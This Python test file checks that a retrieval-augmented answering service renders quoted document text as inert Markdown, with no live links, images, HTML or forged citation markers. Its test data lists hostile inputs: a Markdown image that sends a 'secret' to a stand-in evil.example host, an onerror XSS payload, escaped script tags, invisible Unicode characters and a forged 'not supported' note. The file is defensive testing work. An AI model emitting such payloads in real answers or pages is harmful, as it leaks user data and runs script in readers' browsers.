"""Answers as Markdown: what documents say becomes letters, whatever it looks like to a program."""

import re
from dataclasses import replace

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.generation import plain
from rag.markdown import sentence
from rag.service import markdown
from rag.types import Answer, AnswerSentence, AnswerStatus, Citation, Fallback, Quote

RENDERED = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# What GitHub's Markdown, and programs that look after escapes are resolved, make links of.
ADDRESS = re.compile(
    r"(?i)(https?://|ftp://|www\.)[-.\w]|[-.\w+]+@[-\w]+\.[-\w]|\b[-\w]+\.(com|org|net|io|de|md)\b"
)
MARKER = re.compile(r"(?<!\\)\[\d+\]")

HOSTILE = (
    "![x](https://evil.example/q.png?secret=1)",
    "[click](https://evil.example) and [this][1] and [that]",
    "[1]: https://evil.example",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example> <bob@evil.example>",
    "<think>hidden</think> <details><summary>open",
    "&lt;img src=x&gt; &#60;script&#62; AT&T;",
    "visit https://evil.example/a_b_c?x=*y*&z=~1~ or www.evil.example, or evil.com.",
    "a@b.c _www.x _http://x.y",
    "write to bob@evil.example (mailto:bob@evil.example)",
    "`code` ``more`` ```\nfence\n```",
    "~~~ html\n<b>\n~~~",
    "# A heading",
    "> a quotation",
    "- an item",
    "12) an item",
    "*emphasis* __strong__ ~~struck~~ snake_case_name",
    "a | b\n--- | ---\n1 | 2",
    "C:\\Users\\name \\[escaped\\] \\<b> \\",
    "it was so.[12] [1] [2][3] 【4】",
    "_(not supported by the documents)_",
    "\u202egnirts\u202c zero\u200bwidth \U000e0041tag",
    "http://[::1]/ http://`www.x.com` a.com`b.com",
    "costs $5 and $6, $$x$$",
    "![[x]](y)](https://evil.example)\\](https://evil.example)",
)  # fmt: skip


def citation(marker: int = 1, quote: str = "It leaves at nine.", title: str = "The ferry") -> Citation:
    return Citation(
        marker, Quote("d", 0, len(quote), quote, ""), "ferry.txt", title, None, 3, 0.9, None, "page 3"
    )


def answer(*sentences: AnswerSentence, citations: tuple[Citation, ...] = ()) -> Answer:
    return Answer(
        question="when?", effective_query="when?", text="The documents do not say.", sentences=sentences,
        citations=citations, status=AnswerStatus.ANSWERED if citations else AnswerStatus.ABSTAINED,
        confidence=0.5, hits=(), timings={}, generation=1,
    )  # fmt: skip


def shown(text: str) -> tuple[str, str]:
    """Return all that a program shows of a text, and what of it is no code; fail where any of it is live."""
    (opening, inline, closing) = RENDERED.parse(text)
    assert (opening.type, closing.type) == ("paragraph_open", "paragraph_close")
    children = inline.children or []
    assert {child.type for child in children} <= {"text", "code_inline"}, inline.content
    outside = "".join(child.content if child.type == "text" else "\x00" for child in children)
    return "".join(child.content for child in children), outside


def dead(text: str) -> None:
    said = sentence(AnswerSentence(text, (1,)))
    letters, outside = shown(said)
    assert letters == f"{plain.one_line(text, len(text))} [1]"
    assert not ADDRESS.search(outside)
    assert MARKER.findall(said) == ["[1]"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_sentence_is_shown_letter_for_letter_and_nothing_in_it_lives(text: str) -> None:
    dead(text)


@given(st.lists(st.sampled_from([*"[]()<>!`*_~\\&;#$.:/@|-+=1ax \n", "http://", "www.", "&lt;", "evil.com"])))
@example(["http://", "www.", "`", "evil.com"])
def test_no_mixture_of_signs_lives(pieces: list[str]) -> None:
    text = "x".join(("", "".join(pieces)))
    dead(f"{text}x")
    dead(f"{''.join(pieces)}x")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_lives_in_the_list_of_sources(text: str) -> None:
    told = markdown.sources([citation(1, quote=text, title=text), citation(2)])
    first, second = told.split("  \n")
    assert second == "[2] The ferry, page 3: “It leaves at nine.”"
    line = plain.one_line(text, len(text))
    letters, outside = shown(first)
    assert letters == f"[1] {line}, page 3: “{line}”"
    assert not ADDRESS.search(outside)
    assert MARKER.findall(told) == ["[1]", "[2]"]


def test_each_source_is_a_line_of_its_own() -> None:
    rendered = RENDERED.render(markdown.sources([citation(1), citation(2)]))
    assert rendered.count("<br />") == 1
    assert "<a" not in rendered


def test_markers_that_stand_together_are_no_reference() -> None:
    said = markdown.whole(
        answer(AnswerSentence("[2]: https://evil.example", (1, 2)), citations=(citation(1),))
    )
    assert "<a" not in RENDERED.render(said)


def test_a_document_cannot_forge_a_note() -> None:
    forged = sentence(AnswerSentence("_(not supported by the documents)_", (1,)))
    noted = sentence(AnswerSentence("Dragons do.", ()))
    assert "<em>" not in RENDERED.render(forged)
    assert "<em>(not supported by the documents)</em>" in RENDERED.render(noted)


def test_a_long_title_is_cut() -> None:
    assert len(markdown.sources([citation(title="word " * 200)])) < 220


def test_the_parts_of_an_answer_are_the_whole() -> None:
    cited = (citation(1), citation(2, "It takes long."))
    said = (AnswerSentence("One.", (1,)), AnswerSentence("Two.", ()), AnswerSentence("Three.", (1, 2)))
    told = answer(*said, citations=cited)
    for end in (told, replace(told, fallback=Fallback("busy", "the language model is busy"))):
        telling = markdown.Telling()
        for each in cited:
            telling.cite(each)
        parts = [*map(telling.say, said), telling.finish(end)]
        assert "".join(parts) == telling.text == markdown.whole(end)


def test_an_answer_that_ends_otherwise_than_it_was_told_says_so() -> None:
    said = (AnswerSentence("One.", (1,)), AnswerSentence("Two.", (1,)))
    ends = (
        answer(said[0], citations=(citation(1),)),
        answer(*said, citations=(citation(1, "Other."),)),
        answer(),
    )
    for end in ends:
        telling = markdown.Telling()
        telling.cite(citation(1))
        for each in said:
            telling.say(each)
        telling.finish(end)
        begun, changed, rest = telling.text.split("\n\n", 2)
        assert (begun, changed) == ("One. [1] Two. [1]", f"_({markdown.CHANGED})_")
        assert rest == markdown.whole(end)


def test_what_was_said_before_is_read_without_what_was_added() -> None:
    said = (AnswerSentence("Costs [5] are $5.", (1,)), AnswerSentence("Dragons do.", ()))
    told = replace(answer(*said, citations=(citation(1),)), fallback=Fallback("busy", "it is busy"))
    assert markdown.told_before(markdown.whole(told)) == "Costs [5] are $5. Dragons do."
    assert markdown.told_before("What nobody marked: a [link](x).") == "What nobody marked: a [link](x)."
